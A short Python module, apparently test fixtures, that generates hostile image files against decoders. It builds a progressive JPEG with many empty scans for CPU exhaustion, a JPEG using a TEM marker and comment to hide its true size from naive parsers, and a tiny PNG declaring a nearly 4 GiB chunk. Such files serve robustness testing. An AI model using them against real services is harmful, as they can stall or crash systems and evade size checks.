"""Photos that attack who decodes them."""

import io
import struct

import numpy as np
from PIL import Image


def _jpeg(height, width, **options):
    buffer = io.BytesIO()
    Image.fromarray(np.full((height, width, 3), 90, np.uint8)).save(buffer, "JPEG", **options)
    return buffer.getvalue()


def scans(number, height=1000, width=1000):
    """A progressive JPEG with so many more scans, which are empty; a decoder goes over all pixels in each."""
    data = _jpeg(height, width, progressive=True)
    start = data.index(b"\xff\xda")
    scan = data[start : start + 2 + struct.unpack(">H", data[start + 2 : start + 4])[0]]
    return data[:-2] + scan * number + b"\xff\xd9"


def hidden_size(height, width):
    """A JPEG that seems to have 8 x 8 pixels to who takes the marker TEM for the begin of a segment.

    The two bytes after TEM are the marker of a comment; as a length they lead to a small frame header in that comment.
    """
    frame = b"\xff\xc0" + struct.pack(">HBHHB", 17, 8, 8, 8, 3) + b"\x01\x11\x00\x02\x11\x01\x03\x11\x01"
    comment = bytearray(0xFFFF - 2)
    place = (
        2 + 2 + 0xFFFE - (2 + 2 + 4)
    )  # in the comment: after SOI and TEM, less SOI, TEM, and the comment's first 4 bytes
    comment[place : place + len(frame)] = frame
    data = _jpeg(height, width)
    return data[:2] + b"\xff\x01" + b"\xff\xfe" + struct.pack(">H", 0xFFFF) + bytes(comment) + data[2:]


def hungry():
    """A PNG of 80 bytes in which a chunk of nearly 4 GiB begins."""
    buffer = io.BytesIO()
    Image.fromarray(np.zeros((9, 9), np.uint8)).save(buffer, "PNG")
    data = buffer.getvalue()
    return data[:33] + b"\xf0\xff\xff\xff" + data[37:]
